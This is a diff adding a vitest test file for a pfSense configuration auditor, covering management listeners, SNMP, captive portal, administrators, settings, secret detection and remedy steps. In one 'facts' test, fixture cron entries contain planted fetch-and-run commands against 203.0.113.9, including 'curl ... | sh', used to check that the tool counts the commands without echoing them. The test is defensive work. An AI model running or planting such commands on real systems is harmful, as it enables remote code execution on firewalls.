@@ -1,0 +1,257 @@
+import { describe, expect, it } from 'vitest';
+import { remedySteps } from '../../../src/platforms/pfsense/remedy.js';
+import { config, deviceOf } from './build.js';
+
+describe('the web interface and SSH', () => {
+  const listeners = (webgui: string, system = '') =>
+    deviceOf(config({ webgui, system }))
+      .listeners.filter(({ service }) => service !== 'ping')
+      .map(({ service, services, approximate }) => [
+        service,
+        ...services.toTexts(),
+        ...(approximate.length > 0 ? ['?'] : []),
+      ]);
+
+  it.each([
+    [
+      '<webgui><protocol>https</protocol></webgui>',
+      [
+        ['https-management', 'tcp/443'],
+        ['http-redirect', 'tcp/80'],
+      ],
+    ],
+    [
+      '<webgui><protocol>https</protocol><port></port></webgui>',
+      [
+        ['https-management', 'tcp/443'],
+        ['http-redirect', 'tcp/80'],
+      ],
+    ],
+    [
+      '<webgui><protocol>https</protocol><port>8443</port></webgui>',
+      [
+        ['https-management', 'tcp/8443'],
+        ['http-redirect', 'tcp/80'],
+      ],
+    ],
+    ['<webgui><protocol>https</protocol><disablehttpredirect/></webgui>', [['https-management', 'tcp/443']]],
+    ['<webgui><protocol>http</protocol></webgui>', [['http-management', 'tcp/80']]],
+    ['<webgui><protocol>http</protocol><port>8080</port></webgui>', [['http-management', 'tcp/8080']]],
+    [
+      '<webgui></webgui>',
+      [
+        ['https-management', 'tcp/443', '?'],
+        ['http-management', 'tcp/80', '?'],
+      ],
+    ],
+    [
+      '',
+      [
+        ['https-management', 'tcp/443', '?'],
+        ['http-management', 'tcp/80', '?'],
+      ],
+    ],
+  ])('%s listens on %j', (webgui, found) => {
+    expect(listeners(webgui)).toEqual(found);
+  });
+
+  it.each([
+    ['<ssh><enable>enabled</enable></ssh>', [['ssh-management', 'tcp/22']]],
+    ['<ssh><enable/><port>2222</port></ssh>', [['ssh-management', 'tcp/2222']]],
+    ['<enablesshd>yes</enablesshd>', [['ssh-management', 'tcp/22']]],
+    ['<ssh><port>2222</port></ssh>', []],
+    ['<ssh><enabled/></ssh>', [['ssh-management', 'tcp/22', '?']]],
+  ])('%s listens on %j', (system, found) => {
+    const webgui = '<webgui><protocol>https</protocol><disablehttpredirect/></webgui>';
+    expect(listeners(webgui, system).slice(1)).toEqual(found);
+  });
+});
+
+describe('SNMP', () => {
+  const snmp = (fields: string) =>
+    deviceOf(config({ more: `<snmpd><rocommunity>public</rocommunity>${fields}</snmpd>` })).listeners.find(
+      ({ service }) => service === 'snmp',
+    );
+
+  it('is off in silence, and on every address unless it is bound', () => {
+    expect(snmp('')).toBeUndefined();
+    expect(snmp('<enable/>')).toMatchObject({ interfaces: null, addresses: null });
+    expect(snmp('<enable/><bindip>all</bindip>')).toMatchObject({ interfaces: null, addresses: null });
+    expect(snmp('<enable/><bindip>lan</bindip>')?.interfaces).toEqual(['LAN']);
+    expect(snmp('<enable/><bindip>192.168.1.1</bindip>')?.addresses?.toCidrs()).toEqual(['192.168.1.1/32']);
+    expect(snmp('<enable/><bindip>_vip5</bindip>')?.approximate).toHaveLength(1);
+    expect(snmp('<enable/><pollport>1161</pollport>')?.services.toTexts()).toEqual(['udp/1161']);
+  });
+});
+
+it('the captive portal lets its own pages be reached', () => {
+  const more =
+    '<captiveportal><guests><enable/><interface>lan</interface><zoneid>4</zoneid></guests><off><interface>wan</interface></off></captiveportal>';
+  const device = deviceOf(config({ more }));
+  const portal = device.listeners.filter(({ service }) => service === 'user-login');
+  expect(portal.map(({ services, interfaces }) => [services.toTexts(), interfaces])).toEqual([
+    [['tcp/8004-8005'], ['LAN']],
+  ]);
+  const rules = device.policies.flatMap((policy) => policy.rules.map((rule) => [policy.name, rule.purpose]));
+  expect(rules).toContainEqual(['LAN', 'captive-portal']);
+  expect(rules).not.toContainEqual(['WAN', 'captive-portal']);
+});
+
+describe('administrators', () => {
+  const system = `
+    <group><name>admins</name><gid>1999</gid><scope>system</scope><member>0</member><member>2001</member><priv>page-all</priv></group>
+    <group><name>helpdesk</name><member>2002</member><priv>page-diagnostics-ping</priv><priv>page-status-logs</priv></group>
+    <group><name>vpn</name><member>2003</member><priv>user-ipsec-xauth-dialin</priv></group>
+    <user><name>admin</name><uid>0</uid><scope>system</scope></user>
+    <user><name>jd</name><uid>2001</uid><disabled/><priv>user-shell-access</priv></user>
+    <user><name>help</name><uid>2002</uid></user>
+    <user><name>road</name><uid>2003</uid></user>`;
+
+  it('are those with privileges of their own or of a group', () => {
+    const found = deviceOf(config({ system })).administrators;
+    expect(
+      found.map(({ name, kind, privilege, enabled, origin }) => [name, kind, privilege, enabled, origin]),
+    ).toEqual([
+      ['admin', 'user', 'page-all', true, 'automatic'],
+      ['jd', 'user', 'user-shell-access, page-all', false, 'user'],
+      ['help', 'user', 'page-diagnostics-ping, page-status-logs', true, 'user'],
+      ['admins', 'group', 'page-all', true, 'automatic'],
+      ['helpdesk', 'group', 'page-diagnostics-ping, page-status-logs', true, 'user'],
+    ]);
+  });
+});
+
+describe('facts', () => {
+  const settings = (parts: Parameters<typeof config>[0]) =>
+    new Map(deviceOf(config(parts)).settings.map(({ name, value }) => [name, value]));
+
+  it('tell what runs by itself, and never the commands', () => {
+    const more = `<cron>
+      <item><command>/usr/bin/nice -n20 adjkerntz -a</command></item>
+      <item><command>/etc/rc.periodic daily</command></item>
+      <item><command>/usr/bin/nice -n20 /usr/local/sbin/expiretable -v -t 3600 virusprot</command></item>
+      <item><command>/usr/bin/nice -n20 /etc/rc.update_bogons.sh; fetch http://203.0.113.9/PLANTED</command></item>
+      <item><command>curl -s http://203.0.113.9/PLANTED | sh</command></item></cron>
+      <installedpackages><shellcmdsettings><config><cmd>sh /root/PLANTED</cmd></config></shellcmdsettings></installedpackages>`;
+    const found = settings({ more, system: '<shellcmd>PLANTED</shellcmd>' });
+    expect([found.get('scheduled-commands'), found.get('shell-commands')]).toEqual([2, 2]);
+    expect(JSON.stringify(deviceOf(config({ more })))).not.toContain('PLANTED');
+  });
+
+  it('tell where logs go, who is asked for passwords, and what is switched off', () => {
+    const found = settings({
+      system:
+        '<authserver><name>AD</name><ldap_bindpw>x</ldap_bindpw></authserver><ssh><enable/><sshdkeyonly/></ssh>',
+      webgui: '<webgui><protocol>https</protocol><noantilockout/><authmode>AD</authmode></webgui>',
+      more: '<syslog><enable/><remoteserver>203.0.113.5</remoteserver><filter></filter></syslog>',
+    });
+    expect(Object.fromEntries(found)).toMatchObject({
+      'remote-syslog': '203.0.113.5',
+      'authentication-server': 'AD',
+      'web-authentication': 'AD',
+      'anti-lockout': false,
+      'ssh-key-only': true,
+      'packet-filter-disabled': false,
+      'ipv6-allowed': true,
+    });
+    expect(
+      settings({ more: '<syslog><remoteserver>203.0.113.5</remoteserver></syslog>' }).has('remote-syslog'),
+    ).toBe(false);
+  });
+
+  it('name packages that matter, and those that add rules', () => {
+    const more = `<installedpackages><package><name>haproxy</name></package><package><name>System Patches</name></package>
+      <package><name>Odd</name><filter_rule_function>odd</filter_rule_function></package></installedpackages>`;
+    const found = deviceOf(config({ more })).settings.filter(({ name }) => name.includes('package'));
+    expect(found.map(({ name, value }) => [name, value])).toEqual([
+      ['notable-package', 'haproxy'],
+      ['package-adds-rules', 'Odd'],
+    ]);
+  });
+
+  it('name managers', () => {
+    const device = deviceOf(
+      config({
+        system: '<acb><enable>yes</enable></acb>',
+        more: '<hasync><synchronizetoip>192.168.1.3</synchronizetoip></hasync>',
+      }),
+    );
+    expect(device.managers.map(({ kind, address }) => [kind, address])).toEqual([
+      ['auto-config-backup', null],
+      ['ha-sync', '192.168.1.3'],
+    ]);
+  });
+});
+
+describe('secrets', () => {
+  it('are found wherever they stand, and never kept', () => {
+    const fields = [
+      ['bcrypt-hash', 'hashed'],
+      ['sha512-hash', 'hashed'],
+      ['pre-shared-key', 'clear'],
+      ['prv', 'clear'],
+      ['rocommunity', 'clear'],
+      ['auth_pass', 'reversible'],
+      ['password', 'unknown'],
+      ['api_key', 'unknown'],
+      ['dns_cf_token', 'unknown'],
+      ['accountkey', 'unknown'],
+      ['statspasswd', 'unknown'],
+    ] as const;
+    const inner = fields.map(([name]) => `<${name}>PLANTED</${name}>`).join('');
+    const text = config({
+      more: `<installedpackages><odd><config>${inner}<passwordless></passwordless></config></odd></installedpackages>`,
+    });
+    const device = deviceOf(text);
+    expect(device.secrets.map(({ protection }) => protection)).toEqual(
+      fields.map(([, protection]) => protection),
+    );
+    expect(JSON.stringify(device)).not.toContain('PLANTED');
+  });
+
+  it('know a hash by its dollars', () => {
+    const system = '<user><name>admin</name><password>$1$abc$def</password></user>';
+    expect(deviceOf(config({ system })).secrets).toMatchObject([{ kind: 'password', protection: 'hashed' }]);
+  });
+
+  it('are not what only looks like them', () => {
+    const more =
+      '<openvpn><openvpn-server><passtos></passtos><tls_type>auth</tls_type><save_passwd>yes</save_passwd></openvpn-server></openvpn>';
+    expect(deviceOf(config({ more })).secrets).toEqual([]);
+  });
+});
+
+describe('remedies', () => {
+  it.each([
+    [
+      { kind: 'delete-access-rule', policy: 'WAN', rule: 3, name: 'WAN 3' },
+      'Firewall > Rules > WAN: delete rule 3',
+    ],
+    [
+      { kind: 'delete-access-rule', policy: 'WAN', rule: 2, name: 'Floating 2' },
+      'Firewall > Rules > Floating: delete rule 2',
+    ],
+    [
+      { kind: 'restrict-source', policy: 'WAN', rule: 1, name: 'Up links 1' },
+      'Firewall > Rules > Up links: edit rule 1',
+    ],
+    [
+      { kind: 'disable-management', policy: 'WAN', rule: 2, interface: 'LAN', service: 'ssh-management' },
+      'Firewall > NAT > Port Forward: edit rule 2',
+    ],
+    [
+      { kind: 'disable-management', policy: 'LAN', rule: 0, interface: 'LAN', service: 'https-management' },
+      'Disable webConfigurator anti-lockout rule',
+    ],
+    [
+      { kind: 'disable-management', policy: 'WAN', rule: 0, interface: 'WAN', service: 'ike' },
+      'Auto-added VPN rules',
+    ],
+    [
+      { kind: 'disable-management', policy: 'LAN', rule: 0, interface: 'LAN', service: 'user-login' },
+      'Captive Portal',
+    ],
+  ] as const)('%j: %s', (change, step) => {
+    expect(remedySteps(change).join('\n')).toContain(step);
+  });
+});
